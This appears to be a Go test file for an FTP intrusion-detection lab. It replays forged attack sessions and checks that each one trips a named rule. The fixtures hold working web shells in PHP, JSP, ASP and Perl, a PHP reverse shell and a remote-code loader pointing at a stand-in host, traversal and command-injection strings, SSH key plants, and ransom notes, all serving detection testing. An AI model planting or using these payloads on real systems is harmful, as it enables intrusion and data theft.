// Attacks as published tools and programs that spread make them.

package baseline

import (
	"encoding/base32"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"ftplab/lab/analysis/baseline/rules"
	"ftplab/lab/internal/forge"
)

// wrongPassword is a session of one login that fails.
func wrongPassword(f *forge.Capture, client, user, password string) {
	dial(f, client, aServer+":21").Say("< 220 hi\n> USER " + user + "\n< 331 and?\n> PASS " + password + "\n< 530 no" + bye).Close()
}

// move moves a file or a listing in passive mode, to or from the given port.
func move(t *forge.End, port int, command, content string) {
	t.Say(fmt.Sprintf("> PASV\n< 227 (192,0,2,21,%d,%d)\n> %s\n< 150 here", port/256, port%256, command))
	d := dial(t.Capture, t.Addr.Addr().String(), addrPort(aServer, port))
	sender := answerer
	if strings.HasPrefix(command, "STOR") || strings.HasPrefix(command, "APPE") {
		sender = opener
	}
	end(d, sender).Segment("P.", content)
	end(d, sender).Close()
	t.Say("< 226 done")
}

// moves is a session that moves several files, each a command and its content.
func moves(files ...[2]string) func(*forge.Capture) {
	return movesOf(hello, files...)
}

// anonymousMoves is such a session of an anonymous user.
func anonymousMoves(files ...[2]string) func(*forge.Capture) {
	return movesOf("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS a@b\n< 230 in", files...)
}

// movesOf is a session that begins with a login, and moves several files.
func movesOf(login string, files ...[2]string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(login)
		for i, file := range files {
			move(t, 40000+i, file[0], file[1])
		}
		t.Say(bye).Peer.Close()
	}
}

// cardNumbers lists numbers as payment cards have them.
func cardNumbers(n int) string {
	var b strings.Builder
	for i := range n {
		digits := fmt.Sprintf("4000 0012 %04d 000", i)
		sum := 0
		for i, c := range strings.ReplaceAll(digits, " ", "") {
			d := int(c - '0')
			if i%2 == 0 {
				d *= 2
			}
			sum += d/10 + d%10
		}
		fmt.Fprintf(&b, "%s%d,12/29\r\n", digits, (10-sum%10)%10)
	}
	return b.String()
}

// base32Folders makes folders whose names are base32, in small letters.
func base32Folders(n int, content func(i int) []byte) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "> MKD %s\n< 257 ok\n", strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(content(i))))
	}
	return b.String()
}

// toolAttacks are what must be caught, and the rule that a specialist would name.
var toolAttacks = []struct {
	name, rule string
	play       func(*forge.Capture)
}{
	{"nine passwords in one session, at a person's pace", "no-guessing", func(f *forge.Capture) {
		t := f.Control().Say("< 220 hi")
		for i := range 9 {
			f.Pass(20 * time.Second)
			t.Say(fmt.Sprintf("> USER admin\n< 331 and?\n> PASS pw%d\n< 530 no", i))
		}
		t.Say(bye).Close()
	}},
	{"six passwords for one account, one an hour", "no-guessing", func(f *forge.Capture) {
		for i := range 6 {
			wrongPassword(f, aClient, "ada", fmt.Sprint("Garden", i))
			f.Pass(time.Hour)
		}
	}},
	{"six clients that share the passwords for one account", "no-guessing", func(f *forge.Capture) {
		for i := range 6 {
			wrongPassword(f, fmt.Sprintf("198.51.100.%d", 10+i), "root", fmt.Sprint("Garden", i))
			f.Pass(time.Hour)
		}
	}},
	{"names without passwords", "no-guessing", dialogue("< 220 hi" +
		"\n> USER root\n< 331 and?\n> USER admin\n< 331 and?\n> USER oracle\n< 331 and?\n> USER www\n< 331 and?\n> USER backup\n< 331 and?\n> QUIT\n< 221 bye")},
	{"Telnet commands that fill a line without end", "no-floods", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for range 100 {
			t.Segment("P.", strings.Repeat("\xff\xf4", 4))
		}
		t.Peer.ACK()
	}},
	{"files for ransom", "no-known-exploits", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 4 {
			move(t, 40000+2*i, fmt.Sprintf("RETR plan%d.xls", i), "a plan")
			move(t, 40001+2*i, fmt.Sprintf("STOR plan%d.xls.locked", i), "\x8a\xf1\x07")
			t.Say(fmt.Sprintf("> DELE plan%d.xls\n< 250 ok", i))
		}
		t.Say(bye).Peer.Close()
	}},
	{"files that are overwritten for ransom", "no-known-exploits", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		random := rand.NewChaCha8([32]byte{})
		for i := range 3 {
			content := make([]byte, 600)
			random.Read(content)
			move(t, 40000+2*i, fmt.Sprintf("RETR plan%d.txt", i), strings.Repeat("a plan\r\n", 75))
			move(t, 40001+2*i, fmt.Sprintf("STOR plan%d.txt", i), string(content))
		}
		t.Say(bye).Peer.Close()
	}},
	{"the note of ransomware, under any name", "no-loot", moves([2]string{"STOR README.txt", "ALL YOUR FILES HAVE BEEN ENCRYPTED.\r\nInstall the Tor Browser and pay 0.3 BTC.\r\n"})},
	{"everybody may log in, from now on", "no-sensitive-names", session1("> STOR .rhosts\n< 150 go on\n< 226 done")},
	{"a key that lets an intruder in", "no-sensitive-names", session1("> CWD .ssh\n< 250 ok\n> STOR authorized_keys\n< 150 go on\n< 226 done")},
	{"the passwords of the system", "no-sensitive-names", session1("> RETR /etc/shadow\n< 550 no")},
	{"the accounts are moved away", "no-sensitive-names", session1("> RNFR /etc/passwd\n< 350 ok\n> RNTO /home/ada/p.txt\n< 250 ok")},
	{"orders, and answers to each", "files-are-fetched-once", session1(numberedLines(12, "> RETR cmd.txt\n< 150 here\n< 226 done\n> STOR out%d.txt\n< 150 go on\n< 226 done\n"))},
	{"orders of which few are carried out", "files-are-fetched-once", session1(strings.Repeat("> RETR cmd.txt\n< 150 here\n< 226 done\n", 9) + numberedLines(3, "> RETR cmd.txt\n< 150 here\n< 226 done\n> STOR out%d.txt\n< 150 go on\n< 226 done\n"))},
	{"folders with texts in base32", "names-are-words", session1(base32Folders(8, func(i int) []byte { return fmt.Appendf(nil, "the text %d", i) }))},
	{"a bot that greets", "no-known-exploits", dialogue("< 220 Bot Server (Win32)\n> USER 1\n< 331 and?")},
	{"a copy without a login", "no-known-exploits", dialogue("< 220 ProFTPD 1.3.5\n> SITE CPFR /home/ada/keys\n< 350 go on\n> SITE CPTO /var/tmp/keys\n< 250 copied\n> QUIT\n< 221 bye")},
	{"a copy without an account", "no-known-exploits", anonymous("> SITE CPFR /pub/a\n< 350 go on\n> SITE CPTO /pub/b\n< 250 copied")},
	{"a time zone that overflows", "no-known-exploits", session1("> MDTM 20041111111111+" + strings.Repeat("a", 50) + " /x\n< 550 no")},
	{"a user of two letters that repeat", "arguments-of-normal-length", dialogue("< 220 ready\n> USER " + strings.Repeat("AB", 95) + "\n< 331 go on")},
	{"Metasploit's pattern", "no-known-exploits", session1("> RETR Aa0Aa1Aa2Aa3Aa4Aa5Aa6\n< 550 no")},
	{"separators in the encoding of another language", "no-climbing", session1("> CWD ..%c1%9c..%c1%9cwinnt\n< 550 no")},
	{"separators that are no UTF-8", "no-climbing", session1("> RETR ..\xc0\xaf..\xc0\xafetc/passwd\n< 550 no")},
	{"separators of both kinds", "no-climbing", session1("> NLST -al /..\\/..\\/..\\/\n< 150 here\n< 226 done")},
	{"a drive's letter", "no-climbing", session1("> RETR /C:/Windows/System32/drivers/etc/hosts\n< 150 here\n< 226 done")},
	{"a server that stores files where it likes", "no-climbing", moves([2]string{"LIST", "-rw-r--r-- 1 0 0 9 Jan 1 2020 ../../../.ssh/authorized_keys\r\n"})},
	{"bytes that an urgent pointer takes out", "arguments-are-text", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		t.Urgent = 3
		t.Segment("PU.", "REXTR secret\r\n")
		t.Say("< 550 no").Say(bye).Peer.Close()
	}},
	{"a later part with other bytes, and then the whole", "retransmission-repeats", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		t.SegmentAt(5, "P.", "XXXXXXXX.txt\r\n")
		t.Segment("P.", "RETR harmless.txt\r\n")
		t.Say("< 550 no").Say(bye).Peer.Close()
	}},
	{"a program with the name of one of Windows", "no-programs", moves([2]string{"RETR svchost.exe", "MZ\x90"})},
	{"a program for every device", "no-programs", moves([2]string{"RETR bot.mips", "\x7fELF"}, [2]string{"RETR bot.mpsl", "\x7fELF"}, [2]string{"RETR bot.arm7", "\x7fELF"}, [2]string{"RETR bot.sh4", "\x7fELF"})},
	{"Sasser", "no-known-exploits", moves([2]string{"RETR 12345_up.exe", "MZ\x90"})},
	{"folders that hide", "names-can-be-seen", session1("> MKD .. \n< 257 ok\n> CWD .. \n< 250 ok\n> MKD com1\n< 257 ok")},
	{"a folder of spaces, made by nobody", "names-can-be-seen", dialogue("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS a@b\n< 230 in\n> MKD   \n< 257 ok\n> QUIT\n< 221 bye")},
	{"the passwords of a system, under another name", "no-loot", moves([2]string{"STOR notes.txt", "root:$6$Xa9kQ2$" + strings.Repeat("h/B", 28) + ":19000:0:99999:7:::\n"})},
	{"the passwords of Windows", "no-loot", moves([2]string{"RETR out.txt", "Administrator:500:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::\r\n"})},
	{"the stripe of a card", "no-loot", moves([2]string{"STOR a.log", "%B4000000000000002^LOVELACE/ADA^2912101000000000?"})},
	{"a page in ColdFusion", "no-loot", moves([2]string{"STOR a.cfm", `<cfexecute name="cmd.exe" arguments="/c #url.c#" timeout="9"></cfexecute>`})},
	{"a page in Perl", "no-loot", moves([2]string{"STOR a.cgi", "#!/usr/bin/perl\nprint \"\\n\", `$ENV{QUERY_STRING}`;\n"})},
	{"a page that runs what it kept", "no-loot", moves([2]string{"STOR a.php", `<?php if (isset($_REQUEST["c"])) { $cmd = ($_REQUEST["c"]); system($cmd); }`})},
	{"a page whose function is encoded", "no-loot", moves([2]string{"STOR a.php", `<?php $x = base64_decode("YXNzZXJ0"); $x($_POST["k"]);`})},
	{"a page whose function is in two parts", "no-loot", moves([2]string{"STOR a.php", `<?php array_map("ass" . "ert", (array)$_REQUEST["x"]);`})},
	{"a page that calls any function", "no-loot", moves([2]string{"STOR a.php", `<?php call_user_func($_GET["f"], $_GET["p"]);`})},
	{"a page that writes any file", "no-loot", moves([2]string{"STOR a.php", `<?php file_put_contents($_POST["n"], base64_decode($_POST["d"]));`})},
	{"a page that takes all variables", "no-loot", moves([2]string{"STOR a.php", `<?php @extract($_REQUEST); @die($ctime($atime));`})},
	{"a page that loads itself", "no-loot", moves([2]string{"STOR a.php", `<?php eval("?>" . file_get_contents('http://203.0.113.66/x.txt'));`})},
	{"PHP in a script of HTML", "no-loot", moves([2]string{"STOR a.php", `<script language="php">eval($_POST[1]);</script>`})},
	{"a page of JSP in XML", "no-loot", moves([2]string{"STOR a.jspx", `<jsp:root><jsp:scriptlet>Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));</jsp:scriptlet></jsp:root>`})},
	{"a page that opens a shell for somebody far away", "no-loot", moves([2]string{"STOR a.php", `<?php $s = fsockopen("203.0.113.66", 4444); $p = proc_open("/bin/sh", array($s, $s, $s), $pipes);`})},
	{"a terminal for somebody far away", "no-loot", moves([2]string{"STOR a.py", `import socket, pty; s = socket.socket(); pty.spawn("sh")`})},
	{"a program of a server with the words of intruders, at an odd port", "no-signs-agree", func(f *forge.Capture) {
		t := dial(f, aClient, aServer+":31337").Say(strings.Replace(hello, "< 220 ", "< 220 w3lc0me ", 1))
		move(t, 40000, "RETR a.exe", "MZ\x90")
		t.Say(bye).Peer.Close()
	}},
	{"the note of ransomware, with somebody to write to", "no-loot", moves([2]string{"STOR a.hta", "<h1>ALL YOUR FILES ARE ENCRYPTED</h1>To decrypt, contact mallory@a.example and pay."})},
	{"files that get an ending, and then a note", "no-known-exploits", session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.enc\n< 250 ok\n") + "> STOR RECOVER.txt\n< 150 go on\n< 226 done")},
	{"the note of ransomware, with a price", "no-loot", moves([2]string{"STOR a.txt", "YOUR FILES ARE ENCRYPTED. The price of the decrypt tool is $980."})},
	{"the note of ransomware, with a threat", "no-loot", moves([2]string{"STOR a.txt", "Your data are stolen and encrypted. The data will be published on our Tor site."})},
	{"pictures that run", "no-loot", moves([2]string{"STOR .htaccess", "AddType application/x-httpd-php .jpg\n"})},
	{"a page in ASP", "no-loot", moves([2]string{"STOR a.asp", `<%execute request("c")%>`})},
	{"the lines of a file as names", "no-known-exploits", session1("> CWD root:x:0:0:root:\n< 250 ok\n> CWD root:\n< 250 ok")},
	{"sessions that stay at the door", "calls-are-meant", func(f *forge.Capture) {
		for range 60 {
			f.Control().Say("< 220 hi\n> USER anonymous\n< 331 and?")
		}
	}},
	{"a line of a listing that overflows", "reply-of-normal-length", moves([2]string{"LIST", "-rw-r--r-- 1 0 0 9 Jan 1 2020 " + strings.Repeat("Ab1", 500) + "\r\n"})},
	{"a script for the reader of the log", "no-known-exploits", dialogue("< 220 ready\n> USER <script>alert(1)</script>\n< 331 go on")},
	{"a command after a separator of the shell", "no-known-exploits", session1("> MKD $(reboot)\n< 550 no")},
	{"a program with the name of a picture", "no-known-exploits", session1("> STOR a.asp;.jpg\n< 150 go on\n< 226 done")},
	{"zero bytes", "arguments-are-text", session1("> CWD " + strings.Repeat("\x00", 60) + "\n< 550 no")},
	{"a traversal in a check of a file", "no-climbing", session1("> XCRC ../../../../etc/passwd\n< 550 no")},
	{"braces with stars between them", "no-known-exploits", session1("> STAT " + strings.Repeat("{a,b}*", 6) + "\n< 550 no")},
	{"a bot that fetches itself", "no-known-exploits", moves([2]string{"RETR eraseme_31234.exe", "MZ\x90"})},
	{"the log of a clipboard", "no-known-exploits", session1("> STOR ADA-PC Clipboard Logs ID - 7Xq.txt\n< 150 go on\n< 226 done")},
	{"two programs that are named as documents", "no-programs", moves([2]string{"RETR update.pdf.exe", "MZ\x90"}, [2]string{"RETR invoice.doc", "MZ\x90"})},
	{"data ports used up over many sessions", "announcement-used", func(f *forge.Capture) {
		for i := range 30 {
			f.Control().Say(hello).Say(numberedLines(3, fmt.Sprintf("> PASV\n< 227 (192,0,2,21,%d,%%d)\n", 100+i)))
		}
	}},
	{"a scan with FIN, of ports that do not answer", "no-scans", func(f *forge.Capture) {
		for i := range 12 {
			overhear(f, aClient, addrPort(aServer, 40+i)).Segment("F", "")
		}
	}},
	{"separators of other alphabets", "no-climbing", session1("> RETR ..%u2215..%u2215boot\n< 550 no")},
	{"wide separators", "no-climbing", session1("> RETR ..／..／boot\n< 550 no")},
	{"parameters after each step", "no-climbing", session1("> RETR ..;/..;/boot\n< 550 no")},
	{"a web shell between backquotes", "no-loot", moves([2]string{"STOR a.php", "<?php echo `$_GET[c]`; ?>"})},
	{"a web shell in a pattern", "no-loot", moves([2]string{"STOR a.php", `<?php preg_replace("/.*/e", $_POST["x"], ""); ?>`})},
	{"a web shell that calls what it is sent", "no-loot", moves([2]string{"STOR a.php", "<?php $_GET['f']($_GET['c']); ?>"})},
	{"a web shell of Java", "no-loot", moves([2]string{"STOR a.jsp", `<% new ProcessBuilder(request.getParameter("cmd")).start(); %>`})},
	{"files for ransom that keep their places", "no-known-exploits", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 4 {
			move(t, 40000+2*i, fmt.Sprintf("RETR plan%d.xls", i), "a plan")
			move(t, 40001+2*i, fmt.Sprintf("STOR plan%d.xls", i), "\x8a\xf1\x07")
			t.Say(fmt.Sprintf("> RNFR plan%[1]d.xls\n< 350 and?\n> RNTO plan%[1]d.xls.qqzz\n< 250 ok", i))
		}
		t.Say(bye).Peer.Close()
	}},
	{"a command that waits in front of TLS", "tls-follows-auth", func(f *forge.Capture) {
		inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n+ USER intruder\n< 234 go ahead")).Close()
	}},
	{"AUTH that somebody has crossed out", "no-known-exploits", dialogue("< 220 ready\n> XXXX TLS\n< 500 what?\n> USER ada\n< 331 and?\n> PASS secret\n< 230 in")},
	{"a file of which two versions were sent", "retransmission-repeats", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		d.Peer.SegmentAt(0, "P.", "a bad program, and more")
		d.Peer.Segment("P.", "a good program")
		d.Peer.Close()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a file whose end was sent in two versions", "retransmission-repeats", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		text := strings.Repeat("a line\r\n", 100)
		d.Peer.SegmentAt(0, "P.", text+"a bad end")
		d.Peer.Segment("P.", text+"the right")
		d.Peer.Close()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a start page that boasts in another language", "no-loot", moved("STOR index.html", opener, "<center><font color=red>HACKEADO POR TEAM X - owned!</font></center>")},
	{"two pages that boast", "no-loot", moves([2]string{"STOR index.html", "<h1>HacKeD By a Ghost</h1>"}, [2]string{"STOR a/index.html", "<h1>HacKeD By a Ghost</h1>"})},
}

func TestToolAttacks(t *testing.T) {
	for _, test := range toolAttacks {
		t.Run(test.name, func(t *testing.T) {
			got := forged(t, test.play)
			if got.Verdict != NotNormal || count(got, test.rule, rules.Violation) == 0 {
				t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
			}
		})
	}
}

// TestOneAttackOneFinding lets several clients guess the password of one account: that is one
// finding, and nothing else counts it again.
func TestOneAttackOneFinding(t *testing.T) {
	got := forged(t, func(f *forge.Capture) {
		for i := range 30 {
			wrongPassword(f, fmt.Sprintf("198.51.100.%d", 10+i%6), "root", fmt.Sprint("Garden", i))
			f.Pass(time.Minute)
		}
	})
	if len(got.Findings) != 1 || count(got, "no-guessing", rules.Violation) != 1 {
		t.Errorf("got %v\nwant one finding", got)
	}
	if want := `refused 6 clients 30 times, with the name "root" and 30 different passwords`; !strings.Contains(got.Findings[0].Observed, want) {
		t.Errorf("got %s\nwant %s", got.Findings[0].Observed, want)
	}
}

// TestUnheardLogins refuses logins of which the capture has only the replies, so that nobody knows how many names and how
// many passwords they had.
func TestUnheardLogins(t *testing.T) {
	got := forged(t, func(f *forge.Capture) {
		for i := range 30 {
			client, server := f.Pair(addrPort(aClient, 40000+i), aServer+":21")
			for _, reply := range []string{"220 hi", "331 and?", "530 no"} {
				server.Send(reply + "\r\n")
				client.Seq += uint32(10 + i)
			}
		}
	})
	const want = "refused 198.51.100.100 30 times, with 30 different logins"
	if text := got.String(); !strings.Contains(text, want) {
		t.Errorf("got %s\nwant %s", text, want)
	}
}
